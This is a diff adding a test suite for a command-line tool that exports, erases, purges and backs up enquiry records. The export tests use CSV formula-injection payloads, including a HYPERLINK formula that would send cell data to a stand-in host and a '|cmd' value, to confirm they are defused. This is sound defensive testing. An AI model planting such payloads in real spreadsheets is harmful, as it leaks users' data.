@@ -1,0 +1,181 @@
+import { once } from 'node:events';
+import { readFileSync, statSync, writeFileSync } from 'node:fs';
+import { copyFile, readdir, rm } from 'node:fs/promises';
+import { join } from 'node:path';
+import { sql } from 'kysely';
+import { describe, expect, test } from 'vitest';
+import { openDatabase } from '../../server/db.ts';
+import { buildTools, makeDatabase } from './cli-process.ts';
+import { enquiry, postJson, startServer } from './start-server.ts';
+
+const tools = buildTools();
+
+describe('export', () => {
+  test('writes CSV that a spreadsheet reads as text, whatever was typed', async () => {
+    const { url, references } = await makeDatabase({
+      name: '=HYPERLINK("//x.example?"&A1,"Ann")',
+      phone: '+44 1632 960123',
+      message: '@SUM(1)\nwith "quotes", commas; and café ☕',
+      registration: '-1+1',
+    });
+    const { code, out } = await tools.run(url, 'export');
+    expect(code).toBe(0);
+    expect(out).toBe(
+      [
+        '\uFEFF"reference","state","reason","formType","receivedAt","name","phone","email","registration","postcode","service","preferredDate","preferredTime","message"',
+        `"${references[0]}","received","","contact","2026-11-20 09:00","'=HYPERLINK(""//x.example?""&A1,""Ann"")","'+44 1632 960123","ann@example.org","'-1+1","ZZ1 2ZZ","","","","'@SUM(1)\nwith ""quotes"", commas; and café ☕"`,
+        '',
+      ].join('\r\n'),
+    );
+  });
+
+  test.each(['\t=1', '  =1', '＝1', '＋1', '|cmd', '%0A=1', '\n@x'])('defuses the cell %j', async (message) => {
+    const { url } = await makeDatabase({ message });
+    expect((await tools.run(url, 'export')).out).toContain(`,"'${message}"\r\n`);
+  });
+
+  test('writes JSON as one list, or as one object a line, by the same filters', async () => {
+    const { url, references } = await makeDatabase({}, { formType: 'booking' }, { website: 'filled' });
+    const list = JSON.parse((await tools.run(url, 'export', '--format', 'json')).out) as { reference: string }[];
+    expect(list.map(({ reference }) => reference)).toEqual(references.slice(0, 2));
+    const none = await tools.run(url, 'export', '--format', 'json', '--until', '2020-01-01');
+    expect(JSON.parse(none.out)).toEqual([]);
+    const lines = (await tools.run(url, 'export', '--json', '--spam')).out;
+    expect(JSON.parse(lines)).toMatchObject({ reference: references[2], state: 'spam' });
+  });
+});
+
+describe('erase', () => {
+  test('deletes all of one person, by address or number however spelt, and proves it', async () => {
+    const { url, db, references, dir } = await makeDatabase(
+      { email: 'Ann@Example.ORG', phone: '01632 960999', message: 'A secret of the first.' },
+      { email: '', phone: '+44 (0)1632 960-123', message: 'A secret of the second.' },
+      { email: 'bob@example.org', phone: '01632 960124', message: 'What Bob said.' },
+      { email: 'ann@example.org', website: 'filled', phone: '01632 960777' },
+    );
+    const args = ['erase', '--email', 'ann@example.org', '--phone', '01632960123'];
+    const dry = await tools.run(url, ...args, '--dry-run', '--json');
+    expect(JSON.parse(dry.out)).toEqual({
+      dryRun: true,
+      references: [references[0], references[1], references[3]],
+    });
+    const { code, out } = await tools.run(url, ...args, '--json');
+    const proof = JSON.parse(out);
+    expect([code, proof]).toEqual([
+      0,
+      {
+        erasedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
+        by: ['email', 'phone'],
+        references: [references[0], references[1], references[3]],
+        mails: 3,
+        remaining: 0,
+      },
+    ]);
+    for (const typed of ['ann', '960123']) expect(out.toLowerCase()).not.toContain(typed);
+    expect(await db.selectFrom('enquiry').select('reference').execute()).toEqual([{ reference: references[2] }]);
+    expect(await db.selectFrom('outbox').select('id').execute()).toHaveLength(2);
+    // Not in the database file, nor in the log beside it.
+    for (const name of await readdir(dir)) {
+      const bytes = readFileSync(join(dir, name)).toString('latin1');
+      for (const typed of ['A secret', 'Ann@Example', '960-123'])
+        expect([name, bytes.includes(typed)]).toEqual([name, false]);
+    }
+  });
+
+  test('says so when there is nothing to erase, and exits with 1', async () => {
+    const { url, references } = await makeDatabase({});
+    const { code, out, err } = await tools.run(url, 'erase', '--phone', '+1 632 960123');
+    expect([code, out, err]).toEqual([1, '', 'Nothing is stored under that; nothing was erased.\n']);
+    const readable = await tools.run(url, 'erase', '--phone', '00441632960123');
+    expect(readable.out).toMatch(
+      new RegExp(`^Erased on .+, by phone: ${references[0]}, with 2 mails\\.\nLooked again: 0 left`),
+    );
+  });
+});
+
+describe('purge', () => {
+  test('deletes what is older than the definition keeps it, spam too, and not a day more', async () => {
+    const daysAgo = (days: number) => new Date(Date.now() - days * 86_400_000).toISOString();
+    const { url, db } = await makeDatabase(
+      { at: daysAgo(800), name: 'Old' },
+      { at: daysAgo(731), name: 'Old spam', website: 'filled' },
+      { at: daysAgo(729), name: 'Young' },
+    );
+    expect((await tools.run(url, 'purge', '--dry-run')).out).toBe('Would delete 2 enquiries older than 730 days.\n');
+    expect(JSON.parse((await tools.run(url, 'purge', '--json')).out)).toMatchObject({ purged: 2, dryRun: false });
+    expect(await db.selectFrom('enquiry').select('name').execute()).toEqual([{ name: 'Young' }]);
+    expect(await db.selectFrom('outbox').select('id').execute()).toHaveLength(2);
+    expect((await tools.run(url, 'purge')).out).toBe('Deleted 0 enquiries older than 730 days.\n');
+  });
+});
+
+describe('backup', () => {
+  test('copies while the server takes enquiries, and what is restored has every one that was acknowledged before', async () => {
+    const { url, db } = await startServer();
+    const [{ file }] = await readFileName(db);
+    const before: string[] = [];
+    for (let i = 0; i < 50; i++) before.push(await send(url, i));
+    let isDone = false;
+    const during: Promise<string>[] = [];
+    const sending = (async () => {
+      for (let i = 50; !isDone; i++) {
+        during.push(send(url, i));
+        await during.at(-1);
+      }
+    })();
+    const target = `${file}.backup`;
+    const { code, out } = await tools.run(`file:${file}`, 'backup', target);
+    isDone = true;
+    await sending;
+    expect([code, out]).toEqual([0, expect.stringMatching(/^Wrote \S+: \d+ enquiries, \d+ bytes, checked\.\n$/)]);
+    expect(during.length).toBeGreaterThan(5);
+    expect(statSync(target).mode & 0o777).toBe(0o600);
+
+    const restored = `${file}.restored`;
+    await copyFile(target, restored);
+    const copy = await openDatabase(`file:${restored}`);
+    const kept = (await copy.selectFrom('enquiry').select('reference').execute()).map(({ reference }) => reference);
+    await copy.destroy();
+    expect(kept).toEqual(expect.arrayContaining(before));
+  });
+
+  test('writes over nothing, leaves nothing half-written, and sends PostgreSQL to its own tool', async () => {
+    const { url, dir } = await makeDatabase({});
+    const taken = join(dir, 'taken');
+    writeFileSync(taken, 'precious');
+    expect(await tools.run(url, 'backup', taken)).toMatchObject({
+      code: 1,
+      err: `There is a file ${taken} already; write the name of a new one.\n`,
+    });
+    expect(readFileSync(taken, 'utf8')).toBe('precious');
+    const nowhere = await tools.run(url, 'backup', join(dir, 'no', 'folder'));
+    expect([nowhere.code, nowhere.err]).toEqual([1, expect.stringContaining('Cannot write the copy')]);
+    expect((await readdir(dir)).filter((name) => name.includes('partial'))).toEqual([]);
+    expect(await tools.run('postgres://user:secret@db.example/x', 'backup', join(dir, 'y'))).toMatchObject({
+      code: 1,
+      err: expect.stringContaining('pg_dump'),
+    });
+    const missing = await tools.run(`file:${dir}/none.sqlite`, 'backup', join(dir, 'z'));
+    expect([missing.code, missing.err]).toEqual([1, expect.stringContaining('Cannot open the database file')]);
+    await rm(taken);
+  });
+});
+
+async function send(url: string, i: number): Promise<string> {
+  const answer = await postJson(url, { ...enquiry, message: `Message number ${i}` }, { 'Idempotency-Key': `key-${i}` });
+  return ((await answer.json()) as { reference: string }).reference;
+}
+
+async function readFileName(db: Awaited<ReturnType<typeof openDatabase>>) {
+  const { rows } = await sql<{ file: string }>`pragma database_list`.execute(db);
+  return rows as [{ file: string }];
+}
+
+test('a list that is cut short by its reader is no failure', async () => {
+  const { url } = await makeDatabase(
+    ...Array.from({ length: 300 }, (_, i) => ({ message: `Message number ${i} `.repeat(80) })),
+  );
+  const reader = tools.start(url, 'export');
+  reader.stdout.once('data', () => reader.stdout.destroy());
+  expect(await once(reader, 'exit')).toEqual([0, null]);
+});
